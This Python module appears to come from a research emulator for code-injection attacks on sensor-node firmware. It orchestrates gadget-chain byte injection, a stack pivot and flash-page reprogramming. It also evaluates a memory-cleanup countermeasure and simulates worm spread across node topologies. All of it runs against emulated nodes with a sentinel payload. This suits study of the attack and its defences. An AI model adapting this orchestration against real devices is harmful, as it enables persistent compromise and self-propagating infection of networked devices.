"""End-to-end attack orchestration, the cleanup countermeasure and worm spread.

A full attack against one node:

1. synthesize an injection chain and a reprogramming chain from the image;
2. build the fake stack around one malware page;
3. send one injection packet per must-inject byte (each ends in a reboot);
4. send the reprogramming packet, which pivots SP onto the fake stack;
5. check that the page was flashed and, optionally, that the malware ran.
"""

from __future__ import annotations

import csv
import io
import json
import random
from dataclasses import asdict, dataclass, field
from typing import Any, Callable, Literal

from .chains import (
    ChainGoal,
    GadgetChain,
    SynthesisConstraints,
    emit_injection_payload,
    emit_reprogramming_payload,
    synthesize_chain,
)
from .emulator import BootOptions, MachineState, OutcomeKind, boot, deliver_packet, inspect, soft_reboot
from .fakestack import (
    DEFAULT_FSP,
    FakeStack,
    InjectionSchedule,
    PostAction,
    build_fake_stack,
    injection_schedule,
)
from .firmware import PAGE_WORDS, FirmwareImage
from .gadgets import GadgetCatalog, scan_gadgets

DEFAULT_DEST = 0x8000
# DDRA, the IO register the sentinel malware sets bits in
SENTINEL_IO = 0x1A
SENTINEL_MASK = 0x06

# a lost-packet oracle: called once per packet, True means the packet is dropped
LossFn = Callable[[], bool]


@dataclass(frozen=True)
class FailureStage:
    kind: Literal["InjectionByte", "Pivot", "Flash", "Execute"]
    index: int | None = None

    def __str__(self) -> str:
        return f"{self.kind}({self.index})" if self.index is not None else self.kind


@dataclass
class AttackReport:
    packets_sent: int = 0
    reboots_observed: int = 0
    schedule_verified: bool = False
    flash_verified: bool = False
    malware_executed: bool = False
    sentinel_set: bool = False
    failure_stage: FailureStage | None = None
    packet_lost: bool = False
    mode: str = "multi-packet"
    detail: str | None = None

    @property
    def succeeded(self) -> bool:
        return self.failure_stage is None

    def to_json(self) -> dict[str, Any]:
        out = asdict(self)
        out["failure_stage"] = str(self.failure_stage) if self.failure_stage else None
        out["succeeded"] = self.succeeded
        return out


@dataclass(frozen=True)
class AttackPlan:
    """Chains and addresses resolved once per firmware image."""

    injection: GadgetChain
    reprogram: GadgetChain
    gadget3_addr: int
    constraints: SynthesisConstraints

    @classmethod
    def for_image(
        cls,
        image: FirmwareImage,
        constraints: SynthesisConstraints | None = None,
        catalog: GadgetCatalog | None = None,
    ) -> "AttackPlan":
        constraints = constraints or SynthesisConstraints()
        catalog = catalog or scan_gadgets(image)
        wb = synthesize_chain(catalog, ChainGoal.write_byte(), constraints)[0]
        rp = synthesize_chain(catalog, ChainGoal.reprogram(), constraints)[0]
        # enter the page-programming routine at its start, not at a straight-line suffix
        g3 = image.symbols.get("rp_page_program", rp.spm_gadget.entry if rp.spm_gadget else 0)
        return cls(wb, rp, g3, constraints)


def _sentinel(machine: MachineState) -> bool:
    return machine.read(0x20 + SENTINEL_IO) & SENTINEL_MASK == SENTINEL_MASK


def run_byte_injection(
    machine: MachineState,
    chain: GadgetChain,
    schedule: InjectionSchedule,
    constraints: SynthesisConstraints | None = None,
    lose: LossFn | None = None,
    report: AttackReport | None = None,
) -> AttackReport:
    """Deliver the schedule one byte per packet, rebooting after each.

    After packet ``i`` runs (before the reboot's startup code) every byte written
    so far must still be in place; the first mismatch is reported as
    ``InjectionByte(i)``.
    """
    report = report or AttackReport()
    writes = schedule.writes
    for i, (addr, value) in enumerate(writes):
        payload = emit_injection_payload(chain, addr, value, constraints)
        report.packets_sent += 1
        if lose is not None and lose():
            report.packet_lost = True
            report.failure_stage = FailureStage("InjectionByte", i)
            report.detail = "packet lost"
            return report
        out = deliver_packet(machine, payload)
        if out.kind is not OutcomeKind.SOFT_REBOOT:
            report.failure_stage = FailureStage("InjectionByte", i)
            report.detail = f"packet ended in {out.kind.value}"
            return report
        missing = next((j for j, (a, v) in enumerate(writes[: i + 1]) if machine.read(a) != v), None)
        soft_reboot(machine)
        report.reboots_observed += 1
        if missing is not None:
            report.failure_stage = FailureStage("InjectionByte", i)
            report.detail = f"byte {missing} at {writes[missing][0]:#06x} did not persist"
            return report
    report.schedule_verified = all(machine.read(a) == v for a, v in writes)
    if not report.schedule_verified:
        report.failure_stage = FailureStage("InjectionByte", len(writes) - 1)
    return report


def _reprogram(
    machine: MachineState,
    plan: AttackPlan,
    fs: FakeStack,
    report: AttackReport,
    payload: bytes,
    opts: BootOptions | None = None,
    buff_len: int | None = None,
    lose: LossFn | None = None,
) -> AttackReport:
    pivot = plan.reprogram.gadgets[-1].entry
    report.packets_sent += 1
    if lose is not None and lose():
        report.packet_lost = True
        report.failure_stage = FailureStage("Pivot")
        report.detail = "packet lost"
        return report
    out = deliver_packet(machine, payload, opts=opts, buff_len=buff_len, watch={pivot, plan.gadget3_addr, fs.dest_m})
    if out.kind is OutcomeKind.SOFT_REBOOT:
        soft_reboot(machine)
        report.reboots_observed += 1
    if pivot not in out.watch_hits or plan.gadget3_addr not in out.watch_hits:
        report.failure_stage = FailureStage("Pivot")
        report.detail = f"control did not reach the page programmer ({out.kind.value})"
        return report
    page = inspect(machine, "flash", fs.dest_m, fs.dest_m + PAGE_WORDS)
    report.flash_verified = page == fs.malware_page
    if not report.flash_verified:
        report.failure_stage = FailureStage("Flash")
        report.detail = f"flash page at {fs.dest_m:#06x} differs ({machine.spm_refused} SPM operations refused)"
        return report
    if fs.final_return == fs.dest_m:
        report.malware_executed = fs.dest_m in out.watch_hits
        report.sentinel_set = _sentinel(machine)
        if not report.malware_executed:
            report.failure_stage = FailureStage("Execute")
            report.detail = f"execution never reached {fs.dest_m:#06x} ({out.kind.value})"
    return report


def run_full_attack(
    machine: MachineState,
    malware: bytes,
    dest_m: int = DEFAULT_DEST,
    fsp: int = DEFAULT_FSP,
    post_action: PostAction = PostAction.EXECUTE_MALWARE,
    plan: AttackPlan | None = None,
    oversized: bool = False,
    lose: LossFn | None = None,
) -> AttackReport:
    """Inject a fake stack, reprogram one flash page and optionally run it.

    With ``oversized`` the whole fake stack travels in a single packet right
    behind the reprogramming payload (no size limit, no reboots), and ``fsp`` is
    replaced by the address where the receive buffer holds it.
    """
    plan = plan or AttackPlan.for_image(machine.image)
    if oversized:
        return _oversized_attack(machine, malware, dest_m, post_action, plan)
    fs = build_fake_stack(malware, dest_m, plan.gadget3_addr, post_action, fsp)
    schedule = injection_schedule(fs, fsp, machine.layout)
    report = run_byte_injection(machine, plan.injection, schedule, plan.constraints, lose=lose)
    if report.failure_stage is not None:
        return report
    payload = emit_reprogramming_payload(plan.reprogram, fsp - 1, plan.constraints)
    return _reprogram(machine, plan, fs, report, payload, lose=lose)


def _oversized_attack(
    machine: MachineState, malware: bytes, dest_m: int, post_action: PostAction, plan: AttackPlan
) -> AttackReport:
    harness = machine.image.harness
    if harness is None:
        raise ValueError("image exposes no receive harness")
    unlimited = SynthesisConstraints(
        max_packet_payload=0xFF,
        buffer_start=plan.constraints.buffer_start,
        ram_end=0xFFFF,
        padding_prefix=plan.constraints.padding_prefix,
    )
    head_len = unlimited.padding_prefix + plan.reprogram.payload_length
    fsp = harness.rx_buffer + 1 + head_len
    fs = build_fake_stack(malware, dest_m, plan.gadget3_addr, post_action, fsp)
    head = emit_reprogramming_payload(plan.reprogram, fsp - 1, unlimited)
    packet = head + fs.to_bytes()
    opts = BootOptions(
        layout=machine.opts.layout,
        cleanup_enabled=machine.opts.cleanup_enabled,
        fuel=machine.opts.fuel,
        max_packet_payload=len(packet),
    )
    report = AttackReport(mode="oversized", schedule_verified=True)
    return _reprogram(machine, plan, fs, report, packet, opts=opts, buff_len=len(head))


def evaluate_countermeasure(
    image: FirmwareImage,
    malware: bytes,
    dest_m: int = DEFAULT_DEST,
    fsp: int = DEFAULT_FSP,
    cleanup_enabled: bool = True,
    oversized: bool = False,
    plan: AttackPlan | None = None,
) -> AttackReport:
    """Run the attack against a freshly booted node with or without memory cleanup."""
    machine = boot(image, BootOptions(layout=image.layout, cleanup_enabled=cleanup_enabled))
    before = inspect(machine, "flash", dest_m, dest_m + PAGE_WORDS)
    report = run_full_attack(machine, malware, dest_m, fsp, plan=plan, oversized=oversized)
    if report.failure_stage is not None and inspect(machine, "flash", dest_m, dest_m + PAGE_WORDS) != before:
        report.detail = (report.detail or "") + "; flash changed despite failure"
    return report


# ---------------------------------------------------------------------------
# worm propagation

Topology = Literal["line", "ring", "complete"]


@dataclass(frozen=True)
class WormConfig:
    node_count: int = 10
    topology: Topology = "line"
    loss_probability: float = 0.0
    rng_seed: int = 0
    initial_infected: int = 0
    max_rounds: int = 50
    malware_size: int = 64
    dest_m: int = DEFAULT_DEST
    fsp: int = DEFAULT_FSP

    def __post_init__(self) -> None:
        if self.node_count < 1:
            raise ValueError("node_count must be >= 1")
        if not 0.0 <= self.loss_probability < 1.0:
            raise ValueError("loss_probability must be in [0, 1)")
        if not 0 <= self.initial_infected < self.node_count:
            raise ValueError("initial_infected must be a node id")
        if self.topology not in ("line", "ring", "complete"):
            raise ValueError(f"unknown topology {self.topology!r}")
        if self.max_rounds < 0:
            raise ValueError("max_rounds must be >= 0")

    def neighbors(self, node: int) -> list[int]:
        n = self.node_count
        if self.topology == "complete":
            return [v for v in range(n) if v != node]
        out = {node - 1, node + 1}
        if self.topology == "ring":
            out = {v % n for v in out}
        return sorted(v for v in out if 0 <= v < n and v != node)


@dataclass
class PropagationReport:
    infected_per_round: list[int] = field(default_factory=list)
    rounds_to_full_infection: int | None = None
    packets_transmitted: int = 0
    incomplete_image_events: int = 0
    infections: list[tuple[int, int, int]] = field(default_factory=list)  # (round, attacker, victim)

    def to_json(self) -> dict[str, Any]:
        return {
            "infected_per_round": self.infected_per_round,
            "rounds_to_full_infection": self.rounds_to_full_infection,
            "packets_transmitted": self.packets_transmitted,
            "incomplete_image_events": self.incomplete_image_events,
            "infections": [list(t) for t in self.infections],
        }

    def json(self) -> str:
        return json.dumps(self.to_json(), indent=2, sort_keys=True)

    def to_csv(self) -> str:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(["round", "infected_count"])
        for r, n in enumerate(self.infected_per_round):
            w.writerow([r, n])
        return buf.getvalue()


def simulate_worm(config: WormConfig, image: FirmwareImage | None = None) -> PropagationReport:
    """Synchronous rounds: every node infected at the start of a round attacks
    each susceptible neighbor, attackers in ascending id order."""
    if image is None:
        from .fixtures import demo_firmware

        image = demo_firmware()
    from .fixtures import sentinel_malware

    rng = random.Random(config.rng_seed)
    plan = AttackPlan.for_image(image)
    malware = sentinel_malware(config.malware_size)
    opts = BootOptions(layout=image.layout)
    nodes = [boot(image, opts) for _ in range(config.node_count)]
    infected = {config.initial_infected}
    report = PropagationReport(infected_per_round=[1])

    def lose() -> bool:
        return config.loss_probability > 0 and rng.random() < config.loss_probability

    rnd = 0
    while len(infected) < config.node_count and rnd < config.max_rounds:
        rnd += 1
        attackers = sorted(infected)
        for u in attackers:
            for v in config.neighbors(u):
                if v in infected:
                    continue
                r = run_full_attack(nodes[v], malware, config.dest_m, config.fsp, plan=plan, lose=lose)
                report.packets_transmitted += r.packets_sent
                if r.packet_lost:
                    report.incomplete_image_events += 1
                elif r.succeeded:
                    infected.add(v)
                    report.infections.append((rnd, u, v))
        report.infected_per_round.append(len(infected))
    if len(infected) == config.node_count:
        report.rounds_to_full_infection = rnd
    return report


def report_json(report: AttackReport | PropagationReport) -> str:
    return json.dumps(report.to_json(), indent=2, sort_keys=True)


__all__ = [
    "AttackPlan",
    "AttackReport",
    "FailureStage",
    "PropagationReport",
    "WormConfig",
    "evaluate_countermeasure",
    "report_json",
    "run_byte_injection",
    "run_full_attack",
    "simulate_worm",
]
